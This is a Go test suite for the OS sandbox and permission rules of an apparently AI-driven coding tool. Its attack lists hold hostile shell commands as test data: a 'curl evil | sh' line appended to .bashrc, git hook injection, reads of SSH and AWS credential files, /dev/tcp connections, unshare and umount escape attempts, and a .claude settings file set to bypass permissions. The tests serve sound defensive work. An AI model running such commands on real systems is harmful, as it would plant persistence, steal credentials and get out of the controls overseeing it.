package builtin_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/toolscope/toolscope/builtin"
	"github.com/toolscope/toolscope/permission"
	"github.com/toolscope/toolscope/sandbox"
	"github.com/toolscope/toolscope/tool"
)

// sandboxed is a project run with the OS sandbox on, a fake HOME holding
// credentials, and a directory outside the project.
type sandboxed struct {
	*env
	home, outside string
	files         map[string]string // path -> content that must not change
	gitTree       string            // the listing of .git at the start
}

func newSandboxed(t *testing.T, mode permission.Mode, cfg *sandbox.Config, opts *builtin.Options) *sandboxed {
	t.Helper()
	sb, err := sandbox.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	st, err := sb.Status(context.Background())
	if err != nil || !st.Confines() {
		msg := fmt.Sprintf("the OS sandbox does not confine commands here (%v): %s", err, st)
		if os.Getenv("CI") != "" {
			t.Fatal(msg)
		}
		t.Skip(msg)
	}
	home, _ := filepath.EvalSymlinks(t.TempDir())
	outside, _ := filepath.EvalSymlinks(t.TempDir())
	if opts == nil {
		opts = &builtin.Options{}
	}
	opts.Sandbox = sb
	opts.Env = append(os.Environ(), "HOME="+home)
	s := &sandboxed{env: newEnv(t, mode, opts), home: home, outside: outside, files: map[string]string{}}
	for name, content := range map[string]string{
		".bashrc":          "# the user's bashrc\n",
		".ssh/id_rsa":      "-----BEGIN FAKE PRIVATE KEY-----\n",
		".aws/credentials": "[default]\naws_secret_access_key = FAKESECRET\n",
		".netrc":           "machine example.com password FAKENETRC\n",
	} {
		s.keep(filepath.Join(home, name), content)
	}
	s.keep(filepath.Join(outside, "data.txt"), "outside data\n")
	gitInit(t, s.root)
	s.gitTree = listTree(t, s.path(".git"))
	s.keep(filepath.Join(s.root, ".git", "config"), s.readAbs(filepath.Join(s.root, ".git", "config")))
	s.keep(filepath.Join(s.root, ".env"), "API_KEY=FAKEDOTENV\n")
	return s
}

func gitInit(t *testing.T, dir string) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("git is not installed")
		}
		t.Skip("git is not installed")
	}
	cmd := exec.Command("git", "init", "-q", dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
}

// listTree lists every path under dir with its size and mode.
func listTree(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fi, err := d.Info()
		if err != nil {
			return err
		}
		fmt.Fprintf(&b, "%s %v %d\n", p, fi.Mode(), fi.Size())
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func (s *sandboxed) readAbs(p string) string {
	b, err := os.ReadFile(p)
	if err != nil {
		s.t.Fatal(err)
	}
	return string(b)
}

// keep writes a file that must stay as it is.
func (s *sandboxed) keep(p, content string) {
	s.t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		s.t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
		s.t.Fatal(err)
	}
	s.files[p] = content
}

// unchanged fails when a kept file changed, and when a file appeared in
// the outside directory, the home or .git/hooks.
func (s *sandboxed) unchanged(what string) {
	s.t.Helper()
	for p, want := range s.files {
		b, err := os.ReadFile(p)
		if err != nil || string(b) != want {
			s.t.Errorf("%s: %s changed: %q %v", what, p, b, err)
		}
	}
	if got := listTree(s.t, s.path(".git")); got != s.gitTree {
		s.t.Errorf("%s: .git changed:\n%s", what, got)
	}
	for _, dir := range []string{s.outside, s.home} {
		filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
			if err == nil && !d.IsDir() {
				if _, kept := s.files[p]; !kept && !strings.HasSuffix(p, ".sample") {
					s.t.Errorf("%s: %s appeared", what, p)
				}
			}
			return nil
		})
	}
}

// TestSandboxStopsHarm runs, in bypass mode (nothing asks), commands that
// would do harm; the sandbox alone must stop each one.
func TestSandboxStopsHarm(t *testing.T) {
	s := newSandboxed(t, permission.Bypass, nil, nil)
	if err := os.Symlink(s.outside, s.path("link")); err != nil {
		t.Fatal(err)
	}
	rel, err := filepath.Rel(s.root, s.outside)
	if err != nil {
		t.Fatal(err)
	}
	var accepted atomic.Int32
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Write([]byte("hello from the host\n"))
			c.Close()
		}
	}()
	_, port, _ := net.SplitHostPort(l.Addr().String())

	attacks := []struct{ name, cmd string }{
		{"append to ~/.bashrc", `echo 'curl evil | sh' >> ~/.bashrc`},
		{"write outside through ..", `echo evil > ` + rel + `/data.txt; echo evil > ` + rel + `/new.txt`},
		{"write outside through a symlink", `echo evil > link/data.txt; echo evil > link/new.txt`},
		{"write outside after cd", `cd ` + s.outside + ` && echo evil > data.txt; touch new2.txt`},
		{"write .git/hooks/pre-commit", `printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`},
		{"git config core.hooksPath", `git config core.hooksPath /tmp/evil`},
		{"move .git away", `mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit`},
		{"point .git/commondir at a config with hooks", `mkdir -p evil/hooks && printf '[core]\n\thooksPath = %s/evil/hooks\n' "$PWD" > evil/config && echo "$PWD/evil" > .git/commondir`},
		{"hooks of a submodule's git dir", `mkdir -p .git/modules/sub/hooks && echo evil > .git/modules/sub/hooks/post-checkout`},
		{"git commit with a hook path", `git -c core.hooksPath=/tmp commit --allow-empty -qm x; git update-ref refs/heads/evil HEAD`},
		{"read ~/.ssh/id_rsa", `cat ~/.ssh/id_rsa`},
		{"read ~/.aws/credentials", `cat ~/.aws/credentials; grep -r secret ~/.aws`},
		{"read ~/.netrc", `cat ~/.netrc`},
		{"read the project's .env", `cat .env`},
		{"tcp to the host", `exec 3<>/dev/tcp/127.0.0.1/` + port + ` && cat <&3`},
		{"unmount the protections", `umount .git/hooks; umount -l ~/.ssh; cat ~/.ssh/id_rsa`},
		{"new user namespace", `unshare -U -r -m sh -c 'umount .git/hooks; echo evil > .git/hooks/pre-push'`},
	}
	if _, err := exec.LookPath("curl"); err == nil {
		attacks = append(attacks, struct{ name, cmd string }{"curl to the host", `curl -sS --max-time 3 http://127.0.0.1:` + port + `/`})
	}
	for _, a := range attacks {
		r := s.call("Bash", bash(a.cmd))
		out := r.Text()
		for _, secret := range []string{"FAKE PRIVATE KEY", "FAKESECRET", "FAKENETRC", "FAKEDOTENV", "hello from the host"} {
			if strings.Contains(out, secret) {
				t.Errorf("%s: the output leaks %q:\n%s", a.name, secret, out)
			}
		}
		sb, _ := r.Metadata["sandbox"].(map[string]any)
		if sb == nil || sb["enabled"] != true {
			t.Errorf("%s: no sandbox metadata: %v", a.name, r.Metadata)
		}
		s.unchanged(a.name)
	}
	if n := accepted.Load(); n != 0 {
		t.Errorf("the host's server accepted %d connections", n)
	}
	if _, err := os.Stat(s.path(".git-old")); err == nil {
		t.Error(".git was moved")
	}
}

// TestSandboxWorkInside: building, testing and editing inside the project
// work in the sandbox, as do output, the working directory, timeouts and
// the private TMPDIR.
func TestSandboxWorkInside(t *testing.T) {
	s := newSandboxed(t, permission.Bypass, nil, nil)
	s.write("f.txt", "alpha\n")
	s.write("Makefile", "out.txt: f.txt\n\tcp f.txt out.txt\n")
	for _, c := range []struct{ cmd, want string }{
		{`sed -i s/alpha/beta/ f.txt && cat f.txt`, "beta\n"},
		{`mkdir -p a/b/c && touch a/b/c/d && ls a/b/c`, "d\n"},
		{`make -s && cat out.txt`, "beta\n"},
		{`echo t > "$TMPDIR/x" && cat "$TMPDIR/x"`, "t\n"},
		{`cd a/b && pwd -P`, s.path("a/b") + "\n"},
		{`pwd -P`, s.path("a/b") + "\n"},
		{`python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); s.listen(); c=socket.create_connection(s.getsockname()); print("loopback ok")' 2>&1 || echo no python`, ""},
	} {
		got := s.mustOK(s.call("Bash", bash(c.cmd)))
		if c.want != "" && got != c.want {
			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
		}
		if c.want == "" && !strings.Contains(got, "loopback ok") && !strings.Contains(got, "no python") {
			t.Errorf("%s: %q", c.cmd, got)
		}
	}
	if _, err := exec.LookPath("go"); err == nil {
		s.write("hello/go.mod", "module hello\n\ngo 1.21\n")
		s.write("hello/main.go", "package main\n\nfunc main() { println(\"built\") }\n")
		got := s.mustOK(s.call("Bash", `{"command":"cd `+s.path("hello")+` && go build -o hello . && ./hello","timeout":300000}`))
		if got != "built\n" {
			t.Errorf("go build: %q", got)
		}
	} else if os.Getenv("CI") != "" {
		t.Error("go is not on PATH")
	}
	// The repository is read-only inside: git commands that change it fail,
	// and say why; excluded, they run outside the sandbox.
	r := s.call("Bash", bash(`git add f.txt`))
	if r.Status != tool.StatusError || !strings.Contains(r.Text(), "Read-only file system") || !strings.Contains(r.Text(), "the repository (.git) is read-only") {
		t.Errorf("git add inside the sandbox: %s %q", r.Status, r.Text())
	}
	ex := newSandboxed(t, permission.Bypass, nil, &builtin.Options{ExcludedCommands: []string{"git add:*", "git commit:*"}})
	ex.write("f.txt", "x\n")
	if got := ex.mustOK(ex.call("Bash", bash(`git add f.txt && git -c user.name=t -c user.email=t@t commit -qm one && git log --format=%s`))); got != "one\n" {
		t.Errorf("excluded git commit: %q", got)
	}
	r = s.call("Bash", `{"command":"sleep 30 & sleep 30","timeout":300}`)
	if r.Status != tool.StatusError || r.Metadata["timed_out"] != true {
		t.Errorf("timeout: %s %v", r.Status, r.Metadata)
	}
	s.unchanged("work inside")
}

// TestSandboxPermissions: with the sandbox in force, Bash allows what it
// would only ask about because it is unknown or writes, never a command
// that a rule denies or asks about, a dangerous one, or one that does harm
// inside the sandbox; excluded commands run outside and ask as before.
func TestSandboxPermissions(t *testing.T) {
	s := newSandboxed(t, permission.Default, nil, &builtin.Options{ExcludedCommands: []string{"docker:*"}})
	pc := &permission.Context{Mode: permission.Default,
		Deny: []permission.Rule{{Tool: "Bash", Content: "curl:*", Behavior: permission.Deny}},
		Ask:  []permission.Rule{{Tool: "Bash", Content: "npm publish:*", Behavior: permission.Ask}}}
	check := func(cmd string) permission.Decision {
		t.Helper()
		v, err := s.tk.Check(context.Background(), &tool.Call{Name: "Bash", Input: []byte(`{"command":` + quote(cmd) + `}`), State: tool.NewState(pc)})
		if err != nil {
			t.Fatal(err)
		}
		return v.Decision
	}
	for _, c := range []string{"make", "go build ./...", "sed -i s/a/b/ f.txt", "mkdir -p x/y", "foo-unknown --bar", "echo x > out.txt", "python3 script.py"} {
		if d := check(c); d.Behavior != permission.Allow || !strings.Contains(d.Reason, "Sandboxed") {
			t.Errorf("%q: %s (%s), want allow because sandboxed", c, d.Behavior, d.Reason)
		}
	}
	for c, want := range map[string]permission.Behavior{
		"curl https://example.com":       permission.Deny,
		"npm publish":                    permission.Ask,
		"git push origin main":           permission.Ask,
		"git -C . push":                  permission.Ask,
		"env git reset --hard HEAD~3":    permission.Ask,
		"git clean -fdx":                 permission.Ask,
		"rm -r src":                      permission.Ask,
		"rm -rf .":                       permission.Ask,
		"make && git push":               permission.Ask,
		"echo x > .git/hooks/pre-commit": permission.Ask,
		"cat ~/.ssh/id_rsa":              permission.Ask,
		"docker run --rm alpine":         permission.Ask,
		"make; docker compose up":        permission.Ask,
		"find . -name x.o -delete":       permission.Ask,
		"echo clean -fdx | xargs git":    permission.Ask,
		"truncate -s 0 main.go":          permission.Ask,
	} {
		if d := check(c); d.Behavior != want || strings.Contains(d.Reason, "Sandboxed") {
			t.Errorf("%q: %s (%s), want %s", c, d.Behavior, d.Reason, want)
		}
	}
	// An excluded command runs outside the sandbox, and its result says so.
	b := s.call("Bash", bash("true"))
	if sb, _ := b.Metadata["sandbox"].(map[string]any); sb["enabled"] != true {
		t.Errorf("sandboxed run: %v", b.Metadata)
	}
	bp := newSandboxed(t, permission.Bypass, nil, &builtin.Options{ExcludedCommands: []string{"touch:*"}})
	r := bp.call("Bash", bash("touch "+filepath.Join(bp.outside, "excluded.txt")))
	if sb, _ := r.Metadata["sandbox"].(map[string]any); sb["enabled"] != false {
		t.Errorf("excluded run: %v", r.Metadata)
	}
	if _, err := os.Stat(filepath.Join(bp.outside, "excluded.txt")); err != nil {
		t.Errorf("the excluded command did not run outside the sandbox: %v", err)
	}
	// Autoallow off: ask as without a sandbox.
	off := newSandboxed(t, permission.Default, nil, &builtin.Options{NoSandboxAutoAllow: true})
	if v, err := off.tk.Check(context.Background(), &tool.Call{Name: "Bash", Input: []byte(`{"command":"make"}`), State: tool.NewState(&permission.Context{Mode: permission.Default})}); err != nil || v.Decision.Behavior != permission.Ask {
		t.Errorf("NoSandboxAutoAllow: %v %v", v, err)
	}
}

func quote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// BenchmarkBashStart times a Bash call of "true" through the toolkit,
// plain and sandboxed: what the sandbox adds to a command's start in a
// binary that links the whole tool stack.
//
// sandboxed-project runs it in a project of 1 000 directories (50 of 20,
// a nested repository among them), which the sandbox scans for protected
// files before the command and after it.
func BenchmarkBashStart(b *testing.B) {
	for _, mode := range []string{"plain", "sandboxed", "sandboxed-project"} {
		name := mode
		opts := &builtin.Options{}
		if mode != "plain" {
			sb, err := sandbox.New(nil)
			if err != nil {
				b.Fatal(err)
			}
			opts.Sandbox = sb
		}
		b.Run(name, func(b *testing.B) {
			root := b.TempDir()
			opts.Root = root
			if mode == "sandboxed-project" {
				for i := range 50 {
					for j := range 20 {
						d := filepath.Join(root, "pkg"+strconv.Itoa(i), "sub"+strconv.Itoa(j))
						if err := os.MkdirAll(d, 0o755); err != nil {
							b.Fatal(err)
						}
						os.WriteFile(filepath.Join(d, "a.go"), []byte("package a\n"), 0o644)
					}
				}
				os.MkdirAll(filepath.Join(root, "pkg7", "sub3", ".git", "hooks"), 0o755)
			}
			tk, err := tool.NewToolkit(&tool.ToolkitOptions{Tools: builtin.All(opts)})
			if err != nil {
				b.Fatal(err)
			}
			st := tool.NewState(&permission.Context{Mode: permission.Bypass})
			for b.Loop() {
				r, err := tk.Call(context.Background(), &tool.Call{ID: "b", Name: "Bash", Input: []byte(`{"command":"true"}`), State: st})
				if err != nil || r.Status != tool.StatusSuccess {
					b.Fatalf("%v %v", err, r)
				}
			}
		})
	}
}

// TestSandboxNestedSecrets: a command the sandbox lets run without asking
// may open files by itself (a script); the secret files below the top of
// the project are hidden from it too.
func TestSandboxNestedSecrets(t *testing.T) {
	s := newSandboxed(t, permission.Default, nil, nil)
	s.keep(s.path("services/api/.env"), "DB_PASSWORD=FAKENESTED\n")
	s.keep(s.path("deploy/keys/id_ed25519"), "FAKE NESTED KEY\n")
	s.keep(s.path("ops/backup/.aws/credentials"), "FAKENESTEDAWS\n")
	s.keep(s.path("tls/server.key"), "FAKENESTEDTLS\n")
	s.write("read.sh", "cat services/api/.env deploy/keys/id_ed25519 ops/backup/.aws/credentials tls/server.key\n")
	in := `{"command":"sh read.sh"}`
	if v, err := s.tk.Check(context.Background(), &tool.Call{Name: "Bash", Input: []byte(in), State: s.st}); err != nil || v.Decision.Behavior != permission.Allow {
		t.Fatalf("sh read.sh is not allowed as sandboxed: %v %v", v, err)
	}
	out := s.call("Bash", in).Text()
	for _, secret := range []string{"FAKENESTED", "FAKE NESTED KEY", "FAKENESTEDAWS", "FAKENESTEDTLS"} {
		if strings.Contains(out, secret) {
			t.Errorf("the output leaks %q:\n%s", secret, out)
		}
	}
	s.unchanged("nested secrets")
}

// TestSandboxNoSurvivors: a process that leaves the process group and
// clears its environment (which hides it from the cleanup of unsandboxed
// commands) still ends with the command: it is in the command's PID
// namespace.
func TestSandboxNoSurvivors(t *testing.T) {
	s := newSandboxed(t, permission.Bypass, nil, nil)
	s.mustOK(s.call("Bash", bash(`(env -i setsid nohup sh -c 'echo early > early.txt; sleep 2; echo late > late.txt' </dev/null >/dev/null 2>&1 &); sleep 0.5; echo started`)))
	time.Sleep(3 * time.Second)
	if _, err := os.Stat(s.path("early.txt")); err != nil {
		t.Fatalf("the background process never ran: %v", err)
	}
	if _, err := os.Stat(s.path("late.txt")); err == nil {
		t.Error("a process of the command outlived it and wrote late.txt")
	}
}

// TestSandboxCreatedProtected: a protected directory (.vscode, .claude)
// or .mcp.json / .envrc that does not exist cannot be created by a
// sandboxed command, and nothing is left of the placeholders that stop it;
// another protected file it creates is reported, in the text and the
// metadata.
func TestSandboxCreatedProtected(t *testing.T) {
	s := newSandboxed(t, permission.Bypass, nil, nil)
	r := s.call("Bash", bash(`mkdir -p .vscode; echo '{}' > .vscode/tasks.json; mkdir -p .claude && echo '{"permissions":{"defaultMode":"bypassPermissions"}}' > .claude/settings.local.json; echo '{}' > .mcp.json; echo 'curl x | sh' > .envrc; echo 'script-shell=/tmp/x' > .npmrc`))
	for _, p := range []string{".vscode", ".claude", ".mcp.json", ".envrc"} {
		if _, err := os.Lstat(s.path(p)); err == nil {
			t.Errorf("%s exists after the command:\n%s", p, r.Text())
		}
	}
	if !strings.Contains(r.Text(), "Read-only file system") && !strings.Contains(r.Text(), "Permission denied") {
		t.Errorf("the refused writes do not say why:\n%s", r.Text())
	}
	// The .npmrc it could make (no placeholder keeps a file from being
	// made at the top) is moved aside, and the model told why.
	if blocked := blockedPaths(r); len(blocked) != 1 || !strings.HasSuffix(blocked[0], ".npmrc") || !strings.Contains(r.Text(), "script-shell") {
		t.Errorf("made protected paths not moved aside: %v\n%s", blocked, r.Text())
	}
	if _, err := os.Lstat(s.path(".npmrc")); err == nil {
		t.Error(".npmrc kept")
	}
	if b, err := os.ReadFile(s.path(".npmrc" + sandbox.QuarantineSuffix)); err != nil || !strings.Contains(string(b), "script-shell") {
		t.Errorf(".npmrc not moved aside: %q, %v", b, err)
	}
	// One that existed before (made outside) is read-only, not moved.
	if err := os.WriteFile(s.path(".npmrc"), []byte("x=0\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r = s.call("Bash", bash(`echo 'x=1' > .npmrc`))
	if blocked := blockedPaths(r); len(blocked) > 0 {
		t.Errorf("an existing protected path moved aside: %v\n%s", blocked, r.Text())
	}
	if b, _ := os.ReadFile(s.path(".npmrc")); string(b) != "x=0\n" {
		t.Errorf(".npmrc written: %q", b)
	}
	// A protected path a command makes below the top (a nested repository
	// with a hook) is moved aside too.
	r = s.call("Bash", bash(`mkdir -p vendor/lib && git init -q vendor/lib && printf '#!/bin/sh\necho pwned\n' > vendor/lib/.git/hooks/pre-commit`))
	if blocked := blockedPaths(r); len(blocked) != 1 || !strings.HasSuffix(blocked[0], "vendor/lib/.git") {
		t.Errorf("a nested repository made by the command is not moved aside: %v\n%s", blocked, r.Text())
	}
	if _, err := os.Lstat(s.path("vendor/lib/.git")); err == nil {
		t.Error("vendor/lib/.git kept")
	}
	// An existing .vscode (made outside) is read-only inside.
	if err := os.Mkdir(s.path(".vscode"), 0o755); err != nil {
		t.Fatal(err)
	}
	s.call("Bash", bash(`echo '{}' > .vscode/tasks.json`))
	if _, err := os.Lstat(s.path(".vscode/tasks.json")); err == nil {
		t.Error(".vscode/tasks.json was written")
	}
}

// blockedPaths returns the paths the sandbox moved aside after a Bash call.
func blockedPaths(r *tool.Result) []string {
	sb, _ := r.Metadata["sandbox"].(map[string]any)
	blocked, _ := sb["blocked"].([]sandbox.Blocked)
	var out []string
	for _, b := range blocked {
		out = append(out, b.Path)
	}
	return out
}

// TestSandboxProtectedAnyDepth: under the sandbox, the protected class
// holds at any depth of the project, and what a command makes of it does
// not stay: an existing nested repository nine levels down is read-only
// (the scan stopped at six), one whose parent the command renames away
// and makes again is moved aside (it was another file before), and the members
// a command makes anywhere are moved aside with the reason, while its
// ordinary files stay.
func TestSandboxProtectedAnyDepth(t *testing.T) {
	s := newSandboxed(t, permission.Bypass, nil, nil)
	deep := "a/b/c/d/e/f/g/h/lib"
	for _, d := range []string{deep, "vendor/lib"} {
		if err := os.MkdirAll(s.path(d), 0o755); err != nil {
			t.Fatal(err)
		}
		gitInit(t, s.path(d))
	}
	deepConfig := s.readAbs(s.path(deep + "/.git/config"))
	venvSite := ".venv/lib/python3.12/site-packages"
	if err := os.MkdirAll(s.path(venvSite), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(s.path(".venv/pyvenv.cfg"), []byte("home = /usr/bin\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(s.path(".github"), 0o755); err != nil {
		t.Fatal(err)
	}

	r := s.call("Bash", bash(`printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' >> `+deep+`/.git/config; echo "exit: $?"`))
	if got := s.readAbs(s.path(deep + "/.git/config")); got != deepConfig {
		t.Errorf("a repository nine levels down was written:\n%s\n%s", got, r.Text())
	}

	r = s.call("Bash", bash(strings.Join([]string{
		`mv vendor/lib vendor/lib2`,
		`mkdir -p vendor/lib/.git/hooks && printf '#!/bin/sh\necho pwned\n' > vendor/lib/.git/hooks/post-checkout`,
		`mkdir -p services/api/.claude && echo '{"permissions":{"defaultMode":"bypassPermissions"}}' > services/api/.claude/settings.json`,
		`echo 'PATH_add bin' > services/api/.envrc`,
		`echo 'import os; os.system("id")' > ` + venvSite + `/evil.pth`,
		`mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml`,
		`mkdir -p src/pkg && echo 'package pkg' > src/pkg/a.go && echo 'ok' > services/api/README.md`,
	}, "; ")))
	// Each is moved aside: the repository made anew where vendor/lib was,
	// and the one moved away with its parent too (in a new place a
	// protected file is as new: a fixture's hooks moved where git runs
	// them). .github/workflows at the top could not be made at all.
	want := []string{".venv/lib/python3.12/site-packages/evil.pth", "services/api/.claude", "services/api/.envrc", "vendor/lib/.git", "vendor/lib2/.git"}
	var got []string
	for _, p := range blockedPaths(r) {
		got = append(got, strings.TrimPrefix(p, s.root+"/"))
	}
	slices.Sort(got)
	if !slices.Equal(got, want) {
		t.Errorf("moved aside %v, want %v\n%s", got, want, r.Text())
	}
	for _, p := range want {
		if _, err := os.Lstat(s.path(p)); err == nil {
			t.Errorf("%s kept", p)
		}
		if _, err := os.Lstat(s.path(p + sandbox.QuarantineSuffix)); err != nil {
			t.Errorf("%s not moved aside: %v", p, err)
		}
	}
	if _, err := os.Lstat(s.path(".github/workflows")); err == nil || !strings.Contains(r.Text(), ".github/workflows/ci.yml: Permission denied") {
		t.Errorf(".github/workflows made (%v):\n%s", err, r.Text())
	}
	for _, p := range []string{"src/pkg/a.go", "services/api/README.md", "vendor/lib2/.git~toolscope-blocked/config"} {
		if _, err := os.Lstat(s.path(p)); err != nil {
			t.Errorf("%s: %v", p, err)
		}
	}
	for _, w := range []string{"direnv", "site module", "Claude Code settings", "Make it with Write or Edit"} {
		if !strings.Contains(strings.ToLower(r.Text()), strings.ToLower(w)) {
			t.Errorf("the note does not say %q:\n%s", w, r.Text())
		}
	}
}

// TestSandboxKeepsApprovedWrites: a protected file an allowed Write makes
// while a sandboxed command runs is the user's, not the command's: the
// check after the command keeps it, unless the command put a file of its
// own beside it or wrote over it.
func TestSandboxKeepsApprovedWrites(t *testing.T) {
	s := newSandboxed(t, permission.Bypass, nil, nil)
	done := make(chan *tool.Result)
	go func() {
		done <- s.call("Bash", bash(`sleep 1; mkdir -p web/.cursor && echo '{}' > web/.cursor/mcp.json; mkdir -p app/.idea/runConfigurations && echo evil > app/.idea/runConfigurations/x.xml; echo evil > ovr/.zed/tasks.json`))
	}()
	time.Sleep(300 * time.Millisecond)
	for _, p := range []string{"sub/.vscode/settings.json", "app/.idea/workspace.xml", "ovr/.zed/tasks.json"} {
		if w := s.call("Write", map[string]any{"file_path": s.path(p), "content": "{}\n"}); w.Status != tool.StatusSuccess {
			t.Fatalf("Write: %s", w.Text())
		}
	}
	r := <-done
	blocked := blockedPaths(r)
	slices.Sort(blocked)
	// ovr/.zed/tasks.json: approved, then written over by the command.
	if len(blocked) != 3 || !strings.HasSuffix(blocked[0], "app/.idea") || !strings.HasSuffix(blocked[1], "ovr/.zed") || !strings.HasSuffix(blocked[2], "web/.cursor") {
		t.Errorf("blocked %v\n%s", blocked, r.Text())
	}
	if _, err := os.Stat(s.path("sub/.vscode/settings.json")); err != nil {
		t.Errorf("the approved write was moved aside: %v", err)
	}
}
